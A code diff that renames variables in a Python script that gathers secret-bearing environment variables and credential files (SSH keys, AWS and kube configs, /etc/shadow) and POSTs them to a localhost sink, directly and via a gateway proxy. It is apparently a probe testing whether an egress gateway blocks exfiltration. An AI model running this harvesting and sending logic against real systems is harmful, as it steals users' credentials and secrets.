@@ -12,27 +12,27 @@ import urllib.request
 
 WORDS = ("KEY", "TOKEN", "SECRET", "PASSWORD")
 FILES = ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.kube/config", "/etc/shadow", "/proc/1/environ", ".env")
-THIEF = "http://127.0.0.1:9/drop"
+SINK = "http://127.0.0.1:9/drop"
 
 ATTEMPTS = {"keys": [], "files": [], "sent": {}}
 
 
 def collect():
-    loot = {}
+    captured = {}
     for name, value in os.environ.items():
         if any(word in name for word in WORDS) and value:
-            loot[name] = value
+            captured[name] = value
             ATTEMPTS["keys"].append(name)
     for name in FILES:
         try:
             with open(os.path.expanduser(name), "rb") as f:
                 data = f.read(2000).decode("utf-8", "replace")
             if data:
-                loot[name] = data
+                captured[name] = data
                 ATTEMPTS["files"].append(name)
         except OSError:
             pass
-    return loot
+    return captured
 
 
 def answer_of(call):
@@ -48,9 +48,9 @@ def answer_of(call):
         return "%s: %s" % (type(e).__name__, e)
 
 
-def post(url, loot, proxies):
+def post(url, captured, proxies):
     opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
-    request = urllib.request.Request(url, json.dumps(loot).encode(), {"Content-Type": "application/json"})
+    request = urllib.request.Request(url, json.dumps(captured).encode(), {"Content-Type": "application/json"})
     with opener.open(request, timeout=4) as reply:
         return "sent: HTTP %d" % reply.status
 
@@ -63,13 +63,13 @@ def resolve():
 def steal():
     for name in ("NO_PROXY", "no_proxy"):
         os.environ.pop(name, None)
-    loot = collect()
+    captured = collect()
     gateway = os.environ.get("BRIDGEHOLD_GATEWAY", "http://127.0.0.1:8080")
     sent = ATTEMPTS["sent"]
     sent["DNS lookup of the drop"] = answer_of(resolve)
-    sent["POST directly"] = answer_of(lambda: post(THIEF, loot, {}))
+    sent["POST directly"] = answer_of(lambda: post(SINK, captured, {}))
     sent["POST through the gateway as a proxy"] = answer_of(
-        lambda: post(THIEF, loot, {"http": gateway, "https": gateway})
+        lambda: post(SINK, captured, {"http": gateway, "https": gateway})
     )
 
 
